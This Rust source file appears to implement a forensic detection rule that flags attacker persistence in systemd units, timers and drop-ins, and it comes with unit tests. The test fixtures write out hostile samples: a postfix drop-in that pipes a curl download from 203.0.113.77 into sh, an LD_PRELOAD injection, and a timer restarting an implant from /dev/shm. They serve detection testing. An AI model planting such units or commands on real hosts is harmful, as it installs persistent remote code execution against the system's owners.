//! `persistence.service` — systemd services and timers that run planted code, and units added
//! or changed while the attacker was on the host.
//!
//! **Why**: after root on a mail server (the Exim CVE-2019-10149 wave, Kinsing, miners) the
//! attacker's implant is restarted by systemd: a `dbus-sync.service` running
//! `/dev/shm/.x/dbus-sync` started every ten minutes by a timer, an `ExecStartPre=` added to a
//! real service through a drop-in, `Environment=LD_PRELOAD=` on the MTA. Killing the process
//! without the unit loses to it. **How**: every unit file and drop-in of every unit directory
//! (`/etc/systemd/system`, `/run/systemd/{system,transient}`, `/usr/local/lib`, `/usr/lib`,
//! `/lib`, `/etc/systemd/user`, `/usr/lib/systemd/user`, `~/.config/systemd/user`), parsed by
//! [`crate::hostconf::systemd`]: an `Exec*=` command whose program is in `/tmp`, `/var/tmp`,
//! `/dev/shm`, a hidden directory or a home directory, or that [`risky_command`] judges to
//! fetch, connect or decode; an `Environment=LD_PRELOAD=`; a timer whose unit (`Unit=` or
//! the same-named `.service`) is such a service — one finding citing the timer's line and the
//! service's. A unit or drop-in of `/etc/systemd/system`, `/run/systemd/system` or a user unit
//! directory modified inside the incident window ([`Host::window`]) whose name no vendor
//! directory ships is named too. Each finding says whether the unit is enabled (a `*.wants/`,
//! `*.requires/` link to it). **Severity**: high for the planted commands and `LD_PRELOAD`;
//! medium for a unit that only changed inside the window. **ATT&CK**: T1543.002 (Create or
//! Modify System Process: Systemd Service), T1053.006 (Scheduled Task/Job: Systemd Timers)
//! for timers. **False positives**: a site's own service run from an administrator's home
//! directory or a tool installed in a hidden folder (`/opt/app/.venv/bin/…`); the units
//! packages ship are quiet (tested on every unit of a Debian 12 `/lib/systemd/system`).

use std::collections::BTreeMap;

use super::super::host::{risky_command, Cites, ConfigRule, Host};
use crate::detect::finding::{Finding, Severity};
use crate::hostconf::shellinit::{programs, suspicious_place};
use crate::hostconf::systemd::{
    exec_lines, is_user_unit, is_vendor, link_enables, parse, preload_lines, timer_target,
    unit_dir, unit_of, Directive,
};

/// The rule.
pub struct Service;

/// One file of a unit (the unit file or a drop-in) with its settings.
struct UnitFile<'a> {
    path: &'a str,
    dirs: Vec<Directive>,
}

/// Why a unit's settings are planted: (file, line, what it runs or sets, why).
type Bad<'a> = Vec<(&'a str, u64, String, String)>;

/// A program path's suspicious place, homes included.
fn place(host: &Host, prog: &str) -> Option<String> {
    if let Some(p) = suspicious_place(prog) {
        return Some(format!("runs from {p}"));
    }
    let in_home = prog.starts_with("/home/")
        || prog.starts_with("/root/")
        || host
            .homes
            .iter()
            .filter(|(h, _)| h.starts_with("/home/"))
            .any(|(h, _)| prog.starts_with(&format!("{h}/")));
    in_home.then(|| "runs from a home directory".to_string())
}

fn judge_command(host: &Host, cmd: &str) -> Option<String> {
    // risky_command's own place checks look at every word (a unit may only mention /tmp);
    // the places are judged on the programs run.
    if let Some(r) = risky_command(cmd) {
        if !r.starts_with("runs from") {
            return Some(r.to_string());
        }
    }
    programs(cmd).iter().find_map(|p| place(host, p))
}

fn bad_settings<'a>(host: &Host, files: &[UnitFile<'a>]) -> Bad<'a> {
    let mut out = Vec::new();
    for f in files {
        for (line, key, cmd) in exec_lines(&f.dirs) {
            if let Some(why) = judge_command(host, &cmd) {
                out.push((f.path, line, format!("{key}={cmd}"), why));
            }
        }
        for (line, libs) in preload_lines(&f.dirs) {
            out.push((
                f.path,
                line,
                format!("LD_PRELOAD={libs}"),
                "preloads a library into the service".to_string(),
            ));
        }
    }
    out
}

/// Whether a `*.wants/`-style link enables `unit`.
fn enabled(host: &Host, unit: &str) -> bool {
    host.conf.links.keys().any(|l| link_enables(l, unit))
}

fn enabled_text(host: &Host, unit: &str) -> &'static str {
    if enabled(host, unit) {
        "enabled"
    } else {
        "not enabled by a .wants link"
    }
}

impl ConfigRule for Service {
    fn check(&self, host: &Host) -> Vec<Finding> {
        // Unit files by unit name; within a name, the files in load-path order (the first
        // directory of UNIT_DIRS wins; drop-ins add to it).
        let mut units: BTreeMap<String, Vec<UnitFile>> = BTreeMap::new();
        for (path, f) in &host.conf.files {
            let Some(name) = unit_of(path) else {
                continue;
            };
            units.entry(name).or_default().push(UnitFile {
                path,
                dirs: parse(&f.text()),
            });
        }
        let vendor_names: Vec<&String> = units
            .iter()
            .filter(|(_, fs)| fs.iter().any(|f| is_vendor(f.path)))
            .map(|(n, _)| n)
            .collect();
        let mut out = Vec::new();
        let mut judged_by_timer: Vec<String> = Vec::new();
        // Timers first: a timer and its service are one finding.
        for (name, files) in units.iter().filter(|(n, _)| n.ends_with(".timer")) {
            let all: Vec<Directive> = files.iter().flat_map(|f| f.dirs.clone()).collect();
            let (target, tline) = timer_target(name, &all);
            let Some(svc) = units.get(&target) else {
                continue;
            };
            let bad = bad_settings(host, svc);
            if bad.is_empty() {
                continue;
            }
            judged_by_timer.push(target.clone());
            let tpath = files
                .iter()
                .find(|f| f.dirs.iter().any(|d| Some(d.line) == tline))
                .map(|f| f.path)
                .unwrap_or(files[0].path);
            let mut c = Cites::one(&host.conf, tpath, tline);
            for (p, l, _, _) in &bad {
                c.add(&host.conf, p, Some(*l));
            }
            let (_, _, what, why) = &bad[0];
            let f = c.finding(
                "persistence.service",
                Severity::High,
                vec!["T1053.006", "T1543.002"],
                format!("Systemd timer {name} starts {target}, which {why}"),
                format!(
                    "{tpath}{}: {name} ({}) starts {target}; {} — {why}{}",
                    tline.map(|l| format!(" line {l}")).unwrap_or_default(),
                    enabled_text(host, name),
                    what,
                    more(&bad),
                ),
            );
            out.push(owned(host, f, tpath));
        }
        for (name, files) in &units {
            if name.ends_with(".timer") || judged_by_timer.contains(name) {
                continue;
            }
            let bad = bad_settings(host, files);
            if bad.is_empty() {
                continue;
            }
            let mut c = Cites::default();
            for (p, l, _, _) in &bad {
                c.add(&host.conf, p, Some(*l));
            }
            let (p, l, what, why) = &bad[0];
            let kind = if is_user_unit(p) { "user unit" } else { "unit" };
            let f = c.finding(
                "persistence.service",
                Severity::High,
                vec!["T1543.002"],
                format!("Systemd {kind} {name} {why}"),
                format!(
                    "{p} line {l}: {name} ({}) {what} — {why}{}",
                    enabled_text(host, name),
                    more(&bad),
                ),
            );
            out.push(owned(host, f, p));
        }
        // Units the window touched.
        let Some(window) = host.window else {
            return out;
        };
        let reported: Vec<String> = out.iter().flat_map(|f| f.entities.files.clone()).collect();
        for (name, files) in &units {
            if vendor_names.contains(&name) && files.iter().all(|f| !is_dropin_path(f.path)) {
                continue;
            }
            for f in files {
                let local = unit_dir(f.path).is_some_and(|d| {
                    d == "/etc/systemd/system/" || d == "/run/systemd/system/" || is_user_unit(&d)
                }) && !is_vendor(f.path);
                let stock_file = vendor_names.contains(&name) && !is_dropin_path(f.path);
                if !local || stock_file || reported.iter().any(|r| r == f.path) {
                    continue;
                }
                let Some(mtime) = host.conf.get(f.path).and_then(|c| c.mtime) else {
                    continue;
                };
                if !window.contains(mtime) {
                    continue;
                }
                // The first command it runs, else its first setting.
                let first = exec_lines(&f.dirs)
                    .first()
                    .map(|e| e.0)
                    .or_else(|| f.dirs.first().map(|d| d.line));
                let c = Cites::one(&host.conf, f.path, first);
                let what = if is_dropin_path(f.path) {
                    format!("A drop-in of systemd unit {name}")
                } else {
                    format!("Systemd unit {name}")
                };
                let runs: Vec<String> = exec_lines(&f.dirs)
                    .into_iter()
                    .map(|(_, k, c)| format!("{k}={c}"))
                    .take(3)
                    .collect();
                let finding = c.finding(
                    "persistence.service",
                    Severity::Medium,
                    vec!["T1543.002"],
                    format!(
                        "{what} was written during the incident ({})",
                        enabled_text(host, name)
                    ),
                    format!(
                        "{} modified {} inside the incident window; {}",
                        f.path,
                        crate::detect::finding::ts(mtime.timestamp_micros()),
                        if runs.is_empty() {
                            "it runs no command itself".to_string()
                        } else {
                            format!("it runs {}", runs.join("; "))
                        }
                    ),
                );
                out.push(owned(host, finding, f.path));
            }
        }
        out
    }
}

fn is_dropin_path(p: &str) -> bool {
    crate::hostconf::systemd::is_dropin(p)
}

/// The other planted settings of a unit, for the summary.
fn more(bad: &Bad) -> String {
    if bad.len() < 2 {
        return String::new();
    }
    let rest: Vec<String> = bad[1..]
        .iter()
        .take(4)
        .map(|(p, l, w, why)| format!("{p} line {l}: {w} ({why})"))
        .collect();
    format!("; also {}", rest.join("; "))
}

/// Names the account of a user unit in a home.
fn owned(host: &Host, mut f: Finding, path: &str) -> Finding {
    if let Some(u) = host.owner_of(path) {
        f.entities.users.push(u.to_string());
    }
    f
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::host::Window;
    use crate::detect::rules::config_tests::{cited, cites, host, host_with_links};

    /// The planted pair of the integration fixture: a timer every ten minutes and its service.
    const TIMER: &str = "[Unit]\nDescription=D-Bus session sync\n\n[Timer]\nOnBootSec=2min\nOnUnitActiveSec=10min\n\n[Install]\nWantedBy=timers.target\n";
    const SERVICE: &str = "[Unit]\nDescription=D-Bus session sync\nAfter=network-online.target\n\n[Service]\nType=simple\nExecStart=/dev/shm/.x/dbus-sync --quiet\nRestart=always\nRestartSec=30\n\n[Install]\nWantedBy=multi-user.target\n";

    #[test]
    fn timer_and_service_are_one_finding_citing_both() {
        let h = host_with_links(
            &[
                ("/etc/systemd/system/dbus-sync.timer", TIMER),
                ("/etc/systemd/system/dbus-sync.service", SERVICE),
            ],
            &[(
                "/etc/systemd/system/timers.target.wants/dbus-sync.timer",
                "/etc/systemd/system/dbus-sync.timer",
            )],
        );
        let f = Service.check(&h);
        assert_eq!(f.len(), 1, "{f:?}");
        assert_eq!(f[0].severity, Severity::High);
        assert_eq!(f[0].attack, vec!["T1053.006", "T1543.002"]);
        assert!(f[0].summary.contains("(enabled)"), "{}", f[0].summary);
        assert_eq!(
            cited(f),
            vec![(
                "Systemd timer dbus-sync.timer starts dbus-sync.service, which runs from a world-writable directory".to_string(),
                cites(&[
                    ("etc/systemd/system/dbus-sync.service", &[7]),
                    ("etc/systemd/system/dbus-sync.timer", &[5]),
                ])
            )]
        );
    }

    #[test]
    fn dropins_preload_downloads_and_user_units() {
        let h = host(&[
            ("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\nliwei:x:1001:1001::/home/liwei:/bin/bash\n"),
            // A drop-in adding a pre-start command to the MTA (the unit itself is stock).
            ("/lib/systemd/system/postfix.service", "[Unit]\nDescription=Postfix Mail Transport Agent\n\n[Service]\nType=oneshot\nRemainAfterExit=yes\nExecStart=/bin/true\nExecReload=/bin/true\n"),
            ("/etc/systemd/system/postfix.service.d/override.conf", "[Service]\nExecStartPre=-/bin/sh -c 'curl -fsS http://203.0.113.77/u.sh | sh'\nEnvironment=\"LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libpam_x.so\"\n"),
            ("/home/liwei/.config/systemd/user/tracker-sync.service", "[Service]\nExecStart=/home/liwei/.cache/tracker/tracker-sync\n"),
        ]);
        let got = cited(Service.check(&h));
        assert_eq!(got.len(), 2, "{got:?}");
        assert_eq!(
            got[0].0,
            "Systemd unit postfix.service downloads a program and runs it"
        );
        assert_eq!(
            got[0].1,
            cites(&[(
                "etc/systemd/system/postfix.service.d/override.conf",
                &[2, 3]
            )])
        );
        assert_eq!(
            got[1].0,
            "Systemd user unit tracker-sync.service runs from a hidden directory"
        );
    }

    #[test]
    fn a_unit_written_in_the_window_is_medium_and_says_if_enabled() {
        let mut h = host_with_links(
            &[
                (
                    "/etc/systemd/system/mail-stats.service",
                    "[Service]\nType=oneshot\nExecStart=/usr/local/bin/mail-stats\n",
                ),
                (
                    "/etc/systemd/system/old-report.service",
                    "[Service]\nExecStart=/usr/local/bin/report\n",
                ),
                (
                    "/lib/systemd/system/ssh.service",
                    "[Service]\nExecStart=/usr/sbin/sshd -D $SSHD_OPTS\n",
                ),
            ],
            &[(
                "/etc/systemd/system/multi-user.target.wants/mail-stats.service",
                "/etc/systemd/system/mail-stats.service",
            )],
        );
        let t = |s: &str| {
            chrono::DateTime::parse_from_rfc3339(s)
                .unwrap()
                .with_timezone(&chrono::Utc)
        };
        for (p, when) in [
            (
                "/etc/systemd/system/mail-stats.service",
                "2026-03-14T02:00:00Z",
            ),
            (
                "/etc/systemd/system/old-report.service",
                "2025-01-02T09:00:00Z",
            ),
            ("/lib/systemd/system/ssh.service", "2026-03-14T02:00:00Z"),
        ] {
            h.conf.files.get_mut(p).unwrap().mtime = Some(t(when));
        }
        assert!(Service.check(&h).is_empty(), "no window, no finding");
        h.window = Some(Window {
            start_us: t("2026-03-13T00:00:00Z").timestamp_micros(),
            end_us: t("2026-03-15T00:00:00Z").timestamp_micros(),
        });
        let f = Service.check(&h);
        assert_eq!(f.len(), 1, "{f:?}");
        assert_eq!(f[0].severity, Severity::Medium);
        assert_eq!(
            f[0].title,
            "Systemd unit mail-stats.service was written during the incident (enabled)"
        );
        assert_eq!(f[0].evidence[0].lines, [3]);
    }

    #[test]
    fn programs_inside_shell_wrappers_and_scripts_are_judged() {
        let h = host(&[]);
        let j = |c: &str| judge_command(&h, c);
        assert_eq!(
            j("/bin/sh -c 'sleep 5; exec /var/tmp/.cache/upd'").as_deref(),
            Some("runs from a world-writable directory")
        );
        assert_eq!(
            j("/bin/bash /root/.config/x.sh").as_deref(),
            Some("runs from a hidden directory")
        );
        assert_eq!(
            j("/home/deploy/app/bin/server --port 8080").as_deref(),
            Some("runs from a home directory")
        );
        // Naming a world-writable path is no run (systemd-tmpfiles, a PrivateTmp unit).
        assert_eq!(j("/usr/bin/find /tmp -xdev -mtime +10 -delete"), None);
        assert_eq!(j("/usr/sbin/postmulti -i %i -p start"), None);
    }

    /// Every unit this machine's packages ship (`/lib/systemd/system`, Debian 12), loaded
    /// into one host with their real text: no finding.
    #[test]
    fn every_stock_unit_of_this_machine_is_quiet() {
        let dir = std::path::Path::new("/lib/systemd/system");
        let Ok(rd) = std::fs::read_dir(dir) else {
            eprintln!("SKIPPED: {} is absent on this machine", dir.display());
            return;
        };
        let mut owned: Vec<(String, String)> = Vec::new();
        let mut walk = vec![rd];
        while let Some(rd) = walk.pop() {
            for e in rd.flatten() {
                let p = e.path();
                let Ok(meta) = std::fs::symlink_metadata(&p) else {
                    continue;
                };
                if meta.is_dir() {
                    if let Ok(sub) = std::fs::read_dir(&p) {
                        walk.push(sub);
                    }
                } else if meta.is_file() {
                    if let Ok(t) = std::fs::read_to_string(&p) {
                        owned.push((p.display().to_string(), t));
                    }
                }
            }
        }
        assert!(owned.len() > 50, "only {} units read", owned.len());
        let files: Vec<(&str, &str)> = owned
            .iter()
            .map(|(p, t)| (p.as_str(), t.as_str()))
            .collect();
        let mut h = host(&files);
        h.window = Some(Window {
            start_us: 0,
            end_us: i64::MAX,
        });
        let units = h.conf.files.keys().filter(|k| unit_of(k).is_some()).count();
        assert!(units > 50, "{units} units");
        let f = Service.check(&h);
        assert!(f.is_empty(), "{:#?}", cited(f));
    }
}
